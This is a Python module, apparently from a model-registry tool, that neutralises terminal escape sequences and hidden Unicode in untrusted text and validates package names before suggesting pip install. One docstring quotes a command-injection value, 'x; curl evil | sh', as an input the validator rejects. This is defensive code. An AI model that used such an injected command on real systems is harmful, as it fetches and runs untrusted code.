"""Showing text that came from a shelf (or any other untrusted source) on a terminal.

Everything stored on a shelf (descriptions, tags, metadata, ``created_by``, history fields,
serializer details, names in a bundle or a modelstore registry) may have been written by someone
else. Printed raw, an escape sequence in it could retitle the terminal, move the cursor, erase
lines or fake modelshelf's own output. :func:`safe` makes such text inert and visible instead.

``--json`` output needs none of this: :func:`json.dumps` escapes every control character.
"""

from __future__ import annotations

import re

__all__ = ["install_hint", "safe", "serializer_package", "valid_distribution_name"]

# C0 controls, DEL, C1 controls (0x80-0x9f: 0x9b is a one-byte CSI on some terminals), and the
# Unicode controls that reorder or hide text (bidi overrides and isolates, zero-width marks, line
# and paragraph separators), so that what is shown is what is stored.
_UNSAFE = re.compile(
    "[\x00-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u206f\ufeff\ufff9-\ufffb]"
)
_UNSAFE_BUT_NEWLINE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u206f\ufeff\ufff9-\ufffb]"
)


def _escape(match: re.Match[str]) -> str:
    code = ord(match.group())
    return f"\\x{code:02x}" if code <= 0xFF else f"\\u{code:04x}"


def safe(value: object, *, newlines: bool = False) -> str:
    """``str(value)`` with every control character replaced by a visible escape such as ``\\x1b``.

    Newlines are escaped too (``\\x0a``) unless ``newlines=True``: a one-line field (a tag, a
    name, an error message) must not be able to start a line that looks like modelshelf output.
    """
    text = value if isinstance(value, str) else str(value)
    return (_UNSAFE_BUT_NEWLINE if newlines else _UNSAFE).sub(_escape, text)


# PEP 508 distribution names (https://peps.python.org/pep-0508/#names), compared case-insensitively.
_DISTRIBUTION_NAME = re.compile(r"^([A-Z0-9]|[A-Z0-9][A-Z0-9._-]*[A-Z0-9])$", re.IGNORECASE)


def valid_distribution_name(name: object) -> bool:
    """Whether ``name`` is a valid Python distribution name, safe to show in a ``pip install``."""
    return (
        isinstance(name, str)
        and len(name) <= 200
        and _DISTRIBUTION_NAME.fullmatch(name) is not None
    )


def serializer_package(distribution: object) -> str:
    """The distribution name a manifest records, or "an unknown serializer package".

    A manifest is written by whoever uploaded the version: a name that is not a valid
    distribution name (``x; curl evil | sh``, an escape sequence) is never repeated.
    """
    return (
        str(distribution)
        if valid_distribution_name(distribution)
        else "an unknown serializer package"
    )


def install_hint(distribution: object) -> str:
    """The advice to give when a version's serializer is not installed."""
    if valid_distribution_name(distribution):
        return f"install it with `pip install {distribution}`"
    return (
        "it was saved by an unknown serializer package (its recorded name is not a valid "
        "distribution name): install the plugin that provides this serializer"
    )
